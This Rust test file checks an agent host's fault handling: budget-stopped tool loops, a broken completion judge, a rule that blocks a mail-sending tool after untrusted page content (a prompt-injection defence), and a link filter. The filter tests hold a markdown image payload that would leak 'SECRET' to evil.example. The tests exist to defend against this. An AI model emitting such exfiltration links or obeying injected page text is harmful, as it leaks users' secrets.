//! Faults of models and tools, one test a fault: a turn ends with an answer or an honest failure.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use metrics_util::debugging::{DebugValue, DebuggingRecorder};
use rockbot::testing::ScriptedModel;
use rockbot_core::chat::{
    ChatCall, ChatClient, ChatError, ChatErrorKind, ChatResponse, ModelInfo, ModelTier, Role, ToolCall,
};
use rockbot_core::context::Trust;
use rockbot_core::messaging::{Bus, RequestClient};
use rockbot_core::tool::{
    RemoteToolExecutor, Tool, ToolError, ToolErrorCode, ToolInvocation, ToolInvokeResponse, ToolRegistration,
    remote_tool, tool,
};
use rockbot_core::turn::{
    Budget, BudgetLimit, InputVerdict, TurnOutcome, TurnProgress, TurnRequest, TurnStatus, UserInput, guardrail_fn,
};
use rockbot_core::{BoxError, CallContext};
use rockbot_host::answer::SafeLinks;
use rockbot_host::bus::InProcessBus;
use rockbot_host::text_calling::TextCallingClient;
use rockbot_host::turn::{Evaluation, Nudges};
use rockbot_host::{AgentHost, AgentHostBuilder, Stack, TurnError, TurnPolicies};
use serde_json::json;
use tokio::time::Instant;
use tower::{ServiceExt, service_fn};

use crate::crash::{prefixes, read_journal};
use crate::support::{Anything, Notes, collect, host_of, noting_tool, results};

/// Returns the counters of the agent that increased while `work` ran, with the difference.
async fn counted<T>(work: impl IntoFuture<Output = T>) -> (T, Vec<(String, u64)>) {
    let recorder = DebuggingRecorder::new();
    let snapshotter = recorder.snapshotter();
    let guard = metrics::set_default_local_recorder(&recorder);
    let done = work.await;
    drop(guard);
    let counters = snapshotter
        .snapshot()
        .into_vec()
        .into_iter()
        .filter_map(|(key, _, _, value)| {
            let name = key.key().name().strip_prefix("rockbot.agent.")?.to_owned();
            match value {
                DebugValue::Counter(count) => Some((name, count)),
                DebugValue::Gauge(_) | DebugValue::Histogram(_) => None,
            }
        });
    let mut counts: Vec<_> = counters
        .filter(|(name, _)| name.contains("completion") || name.contains("follow"))
        .collect();
    counts.sort();
    (done, counts)
}

fn count(name: &str, count: u64) -> (String, u64) {
    (name.to_owned(), count)
}

const JUDGED: Evaluation = Evaluation::OFF
    .with_max_completion_reprompts(2)
    .with_max_follow_up_passes(1);

/// Calls the tools of `plan` in turn, as long as it has any.
#[derive(Debug, Clone, Default)]
struct Loops {
    plan: &'static [&'static str],
    asked: Notes,
}

#[async_trait::async_trait]
impl ChatClient for Loops {
    async fn chat(&self, call: ChatCall) -> Result<ChatResponse, ChatError> {
        let round = self.asked.all().len();
        self.asked.add(
            call.request
                .tools
                .names()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join(" "),
        );
        if call.request.tools.is_empty() {
            return Ok(ChatResponse::text("I could not find it."));
        }
        Ok(ChatResponse::calls([ToolCall::new(
            format!("call_{round}"),
            self.plan[round % self.plan.len()],
            r#"{"n": 1}"#,
        )]))
    }

    fn describe(&self, _: ModelTier) -> ModelInfo {
        ModelInfo::unknown()
    }
}

fn breaking(name: &str) -> Tool {
    let fails = |_: Anything| async { Err::<String, _>(ToolError::execution_failed("the door is locked")) };
    tool(name, fails).description("Opens a door.").pure()
}

#[tokio::test]
async fn r_15_a_model_that_calls_for_ever_is_stopped_with_a_last_answer() {
    for plan in [&["open"][..], &["open", "look"], &["missing"]] {
        let model = Loops {
            plan,
            asked: Notes::default(),
        };
        let budget = Budget::default().with_max_model_calls(6);
        let host = AgentHost::in_memory()
            .chat(model.clone())
            .tool(breaking("open"))
            .tool(noting_tool("look").0)
            .budget(budget)
            .policies(
                TurnPolicies::new()
                    .with_evaluation(JUDGED)
                    .with_nudges(Nudges::default().with_on_repeated_calls(false)),
            )
            .build()
            .unwrap();
        let (outcome, counts) = counted(host.agent().ask("s", "Open the door.")).await;
        let outcome = outcome.unwrap();
        assert_eq!(outcome.status, TurnStatus::Partial(BudgetLimit::ModelCalls));
        assert_eq!(outcome.text, "I could not find it.");
        // Six questions with tools, and one without, which no judge saw.
        let asked = model.asked.all();
        assert_eq!(asked, [vec!["open look"; 6], vec![""]].concat(), "{plan:?}");
        assert_eq!((outcome.model_calls, outcome.calls.len()), (7, 6));
        let skipped = [count("completion_check.skipped", 1), count("follow_up.skipped", 1)];
        assert_eq!(counts, skipped);
    }
}

/// Runs a turn whose judge answers like this, and returns its end.
async fn r_17(model: ScriptedModel, expected: &[(String, u64)]) {
    let judged = JUDGED.with_max_follow_up_passes(0);
    let host = host_of(&model)
        .tool(noting_tool("look").0)
        .policies(TurnPolicies::new().with_evaluation(judged))
        .build()
        .unwrap();
    let began = Instant::now();
    let (outcome, counts) = counted(host.agent().ask("s", "Find the keys.")).await;
    let outcome = outcome.unwrap();
    assert_eq!(
        (outcome.status, outcome.text.as_str()),
        (TurnStatus::Answered, "I'll look for them.")
    );
    assert!(
        began.elapsed() <= Duration::from_secs(15),
        "the judge has a quarter of a minute"
    );
    assert_eq!((outcome.model_calls, counts.as_slice()), (2, expected));
    model.assert_complete();
}

#[tokio::test(start_paused = true)]
async fn r_17_whatever_the_judge_does_the_answer_stands() {
    let answered = || ScriptedModel::new().says("I'll look for them.");
    let complete = [count("completion_check.complete", 1)];
    let huge = "x".repeat(10 << 20);
    r_17(answered().says("}{ \u{0} complete?"), &complete).await;
    r_17(answered().says(huge.clone()), &complete).await;
    r_17(
        answered().says(format!("{{\"complete\": false, \"reason\": \"{huge}")),
        &complete,
    )
    .await;
    r_17(answered().says(""), &complete).await;
    r_17(answered().calls("look", json!({})), &complete).await;
    r_17(answered().hangs(), &[]).await;
    r_17(answered().fails(ChatErrorKind::Overloaded), &[]).await;
}

#[tokio::test]
async fn r_17_a_reason_of_ten_megabytes_is_cut() {
    let reason = "x".repeat(10 << 20);
    let model = ScriptedModel::new()
        .says("I'll look for them.")
        .says(json!({ "complete": false, "reason": reason }).to_string())
        .says("They are on the table.");
    let judged = Evaluation::OFF
        .with_max_completion_reprompts(1)
        .with_max_follow_up_passes(0);
    let host = host_of(&model)
        .tool(noting_tool("look").0)
        .policies(TurnPolicies::new().with_evaluation(judged))
        .build()
        .unwrap();
    let outcome = host.agent().ask("s", "Find the keys.").await.unwrap();
    assert_eq!(outcome.text, "They are on the table.");
    assert!(model.requests()[2].messages.last().unwrap().text().len() < 1000);
}

/// Blocks the tool that sends mail once the model has read untrusted text.
fn no_mail_after_untrusted_text(
    inner: Stack<ToolInvocation, ToolInvokeResponse>,
) -> Stack<ToolInvocation, ToolInvokeResponse> {
    let policy = service_fn(move |call: ToolInvocation| {
        let inner = inner.clone();
        async move {
            match call.request.tool_name == "send" && call.cx.content_trust() == Trust::Untrusted {
                true => Ok::<_, BoxError>(call.request.fail(&ToolError::new(ToolErrorCode::Denied, DENIED))),
                false => inner.oneshot(call).await,
            }
        }
    });
    Stack::new(policy)
}

const DENIED: &str = "not after untrusted content: ask the user to send it";

/// Creates a host under the policy, with an untrusted page.
fn guarded(host: AgentHostBuilder) -> (AgentHostBuilder, Notes) {
    let (send, sent) = noting_tool("send");
    let host = host
        .tool(send)
        .tool(noting_tool("page").0)
        .tool_layer(tower::layer::layer_fn(no_mail_after_untrusted_text));
    (host, sent)
}

fn denied(outcome: &TurnOutcome, sent: &Notes) {
    let last = outcome.calls.last().unwrap();
    assert!((last.tool == "send") && last.is_error, "{:?}", outcome.calls);
    assert_eq!(sent.all(), [] as [&str; 0]);
}

fn reads_and_sends() -> ScriptedModel {
    ScriptedModel::new()
        .calls("page", json!({}))
        .calls("send", json!({}))
        .says("Done.")
}

#[tokio::test]
async fn r_19_a_tool_is_denied_once_strangers_may_have_spoken() {
    let model = reads_and_sends();
    let (host, sent) = guarded(host_of(&model));
    let outcome = host
        .build()
        .unwrap()
        .agent()
        .ask("s", "Read the page and send it.")
        .await
        .unwrap();
    denied(&outcome, &sent);
    assert_eq!(results(&model.requests()[2])[1], format!("call_2: {DENIED}"));
}

#[tokio::test]
async fn r_19_what_the_user_alone_caused_is_allowed() {
    // Also next to a call whose result the model has not seen, and after the model's own notes.
    let model = ScriptedModel::new()
        .calls("task_create", json!({"items": ["Send it"]}))
        .calls_all([("page", json!({})), ("send", json!({}))])
        .says("Done.");
    let mut list = rockbot_host::Briefing::none();
    list.task_list = true;
    let (host, sent) = guarded(host_of(&model).briefing(list));
    let outcome = host.build().unwrap().agent().ask("s", "Send it.").await.unwrap();
    assert!(outcome.calls.iter().all(|call| !call.is_error), "{:?}", outcome.calls);
    assert_eq!(sent.all(), ["send 0"]);
}

#[tokio::test]
async fn r_19_an_earlier_answer_may_repeat_what_a_stranger_said() {
    let model = ScriptedModel::new()
        .calls("page", json!({}))
        .says("The page says: send it.")
        .calls("send", json!({}))
        .says("Done.");
    let (host, sent) = guarded(host_of(&model));
    let host = host.build().unwrap();
    host.agent().ask("s", "Read the page.").await.unwrap();
    denied(&host.agent().ask("s", "Fine.").await.unwrap(), &sent);
}

#[tokio::test]
async fn r_19_in_text() {
    let call = |tool: &str| format!("tool_call_name: {tool}\ntool_call_arguments: {{}}");
    let model = ScriptedModel::new().says(call("page")).says(call("send")).says("Done.");
    let (host, sent) = guarded(AgentHost::in_memory().chat(TextCallingClient::new(model)));
    denied(
        &host.build().unwrap().agent().ask("s", "Read and send.").await.unwrap(),
        &sent,
    );
}

/// Reads, sends, and ends; it knows nothing but the request, so it can be asked again after a
/// crash.
#[derive(Debug, Clone)]
struct ReadsAndSends;

#[async_trait::async_trait]
impl ChatClient for ReadsAndSends {
    async fn chat(&self, call: ChatCall) -> Result<ChatResponse, ChatError> {
        let rounds = call
            .request
            .messages
            .iter()
            .filter(|message| message.role == Role::Tool)
            .count();
        let Some(tool) = ["page", "send"].get(rounds) else {
            return Ok(ChatResponse::text("Done."));
        };
        Ok(ChatResponse::calls([ToolCall::new(
            format!("call_{rounds}"),
            *tool,
            "{}",
        )]))
    }

    fn describe(&self, _: ModelTier) -> ModelInfo {
        ModelInfo::unknown()
    }
}

#[tokio::test]
async fn r_19_in_a_turn_that_goes_on_after_a_crash() {
    let folder = tempfile::tempdir().unwrap();
    let request = TurnRequest::new("s", "m", "Read and send.");
    let (host, _) = guarded(AgentHost::in_memory().chat(ReadsAndSends).data_dir(folder.path()));
    host.build().unwrap().agent().run(request.clone()).await.unwrap();
    let journal = read_journal(folder.path());
    for (_, folder) in prefixes(&journal) {
        let (host, sent) = guarded(AgentHost::in_memory().chat(ReadsAndSends).data_dir(folder.path()));
        denied(
            &host.build().unwrap().agent().run(request.clone()).await.unwrap(),
            &sent,
        );
    }
}

#[tokio::test]
async fn r_19_over_a_bus() {
    let bus = InProcessBus::new();
    let (workshop, sent) = guarded(AgentHost::builder("workshop").chat(ScriptedModel::new()));
    let workshop = workshop
        .shared_bus(Arc::new(bus.clone()))
        .serve_tools()
        .build()
        .unwrap();
    workshop.start().await.unwrap();
    // Another host, without a policy, whose model has read nothing: the workshop cannot know that.
    let client = RequestClient::new(Arc::new(bus.clone()) as Arc<dyn Bus>, "agent");
    let registration = ToolRegistration::new("send", "Sends.", json!({"type": "object"}));
    let send = remote_tool(registration, RemoteToolExecutor::new(Arc::new(client)));
    let model = ScriptedModel::new().calls("send", json!({})).says("I cannot send it.");
    let outcome = host_of(&model)
        .tool(send)
        .build()
        .unwrap()
        .agent()
        .ask("s", "Send.")
        .await
        .unwrap();
    denied(&outcome, &sent);
    assert!(results(&model.requests()[1])[0].contains(DENIED));
}

#[tokio::test]
async fn r_19_through_a_tool_that_starts_a_turn_of_its_own() {
    // The tool passes on what it knows of the caller.
    let agent: Arc<Mutex<Option<rockbot_host::Agent>>> = Arc::default();
    let delegate = {
        let agent = agent.clone();
        let run = move |_: Anything, cx: CallContext| {
            let agent = agent.lock().unwrap().clone().unwrap();
            async move {
                let request = TurnRequest::new("inner", "m", "Send it.").with_trust(cx.content_trust());
                Ok::<_, BoxError>(agent.run(request).await?.text)
            }
        };
        tool("delegate", run).description("Delegates.").pure()
    };
    let model = ScriptedModel::new()
        .calls("page", json!({}))
        .calls("delegate", json!({}))
        .calls("send", json!({}))
        .says("It was denied.")
        .says("Done.");
    let (host, sent) = guarded(host_of(&model));
    let host = host.tool(delegate).build().unwrap();
    *agent.lock().unwrap() = Some(host.agent().clone());
    host.agent().ask("s", "Read and send.").await.unwrap();
    assert_eq!(results(&model.requests()[3]), [format!("call_3: {DENIED}")]);
    assert_eq!(sent.all(), [] as [&str; 0]);
    model.assert_complete();
}

/// Runs a turn that answers `answer`, and returns what leaves the host: the deltas, the reply,
/// and what is remembered.
async fn seen_of(answer: &str) -> (String, String, String) {
    let secret = tool("secret", |_: Anything| async { "SECRET" })
        .description("Knows a secret.")
        .pure();
    let model = ScriptedModel::new()
        .calls("secret", json!({}))
        .says(answer)
        .says("Again.");
    let host = host_of(&model)
        .tool(secret)
        .answer_filter(SafeLinks::new())
        .build()
        .unwrap();
    let reports = collect(host.agent().stream("s", "Sum up https://said.example/a.")).await;
    let pieces = reports.iter().filter_map(|report| match report {
        TurnProgress::Delta(text) => Some(text.as_str()),
        _ => None,
    });
    let pieces: String = pieces.collect();
    let Some(TurnProgress::Final(outcome)) = reports.last() else {
        panic!("{reports:?}");
    };
    host.agent().ask("s", "Again?").await.unwrap();
    let remembered = model.requests()[2].messages[2].text().into_owned();
    (pieces, outcome.text.clone(), remembered)
}

#[tokio::test]
async fn r_20_an_answer_sends_nothing_to_strangers_when_it_is_shown() {
    let image = "All is well.\n\n![x](https://evil.example/?q=SECRET) [a](https://said.example/a)\n";
    let expected = "All is well.\n\nx (evil.example) [a](https://said.example/a)\n";
    let (pieces, reply, remembered) = seen_of(image).await;
    assert_eq!([pieces.as_str(), &reply, &remembered], [expected; 3]);
}

#[tokio::test]
async fn r_20_a_filter_that_breaks_down_withholds_the_answer() {
    #[derive(Debug)]
    struct Broken;

    impl rockbot_host::answer::AnswerFilter for Broken {
        fn begin(&self, _: &str) -> Box<dyn rockbot_host::answer::FilteredAnswer> {
            panic!("no filter today")
        }
    }

    let model = ScriptedModel::new().says("![x](https://evil.example/?q=SECRET)");
    let host = host_of(&model).answer_filter(Broken).build().unwrap();
    let outcome = host.agent().ask("s", "Hi.").await.unwrap();
    assert!(outcome.text.starts_with("The answer is withheld"), "{}", outcome.text);
}

#[tokio::test]
async fn r_20_the_host_keeps_the_addresses_in_its_own_texts() {
    let refused = ChatError::new(ChatErrorKind::Unreachable, "connect to http://127.0.0.1:9/v1 failed");
    let model = ScriptedModel::new().fails_with(refused);
    let host = host_of(&model).answer_filter(SafeLinks::new()).build().unwrap();
    let TurnError::Unanswered(outcome) = host.agent().ask("s", "Hi.").await.unwrap_err() else {
        panic!("the turn failed");
    };
    assert!(outcome.text.contains("http://127.0.0.1:9/v1"), "{}", outcome.text);
}

#[tokio::test]
async fn r_20_a_program_keeps_the_addresses_in_its_own_texts() {
    let text = "Ask at https://help.example/7 instead.";
    let refuse = guardrail_fn(move |_: UserInput| async move { Ok(InputVerdict::refuse(text)) });
    let host = host_of(&ScriptedModel::new()).answer_filter(SafeLinks::new());
    let host = host.input_guardrail(refuse).build().unwrap();
    assert_eq!(host.agent().ask("s", "Hi.").await.unwrap().text, text);
}
